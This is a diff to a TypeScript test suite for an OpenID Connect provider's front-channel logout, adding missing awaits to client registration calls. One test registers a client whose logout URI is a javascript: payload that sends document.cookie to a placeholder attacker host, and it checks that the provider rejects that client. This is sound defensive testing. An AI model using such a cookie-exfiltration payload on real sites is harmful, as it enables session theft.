@@ -43,7 +43,7 @@ async function logOut(browser: Browser, config: oidc.Configuration, idToken: str
 // legitimate cross-site logout iframe.
 describe('front-channel logout', () => {
   it('refuses a client whose frontchannel_logout_uri is javascript:, so the logout page never frames it', async () => {
-    const evil = register('http://127.0.0.1:8976/callback', 'javascript:fetch("//attacker.example/?"+document.cookie)');
+    const evil = await register('http://127.0.0.1:8976/callback', 'javascript:fetch("//attacker.example/?"+document.cookie)');
     const browser = new Browser(app);
     const { result, tokens } = await signIn(browser, evil, 'http://127.0.0.1:8976/callback');
     expect(tokens).toBeUndefined();
@@ -60,8 +60,8 @@ describe('front-channel logout', () => {
 
   it('frames exactly the origins of the clients being logged out', async () => {
     const browser = new Browser(app);
-    const one = register('https://rp-one.example/callback', 'https://rp-one.example/logout');
-    const two = register('http://127.0.0.1:8976/callback', 'http://127.0.0.1:8976/frontchannel');
+    const one = await register('https://rp-one.example/callback', 'https://rp-one.example/logout');
+    const two = await register('http://127.0.0.1:8976/callback', 'http://127.0.0.1:8976/frontchannel');
     await signIn(browser, one, 'https://rp-one.example/callback');
     const { config, tokens } = await signIn(browser, two, 'http://127.0.0.1:8976/callback');
 
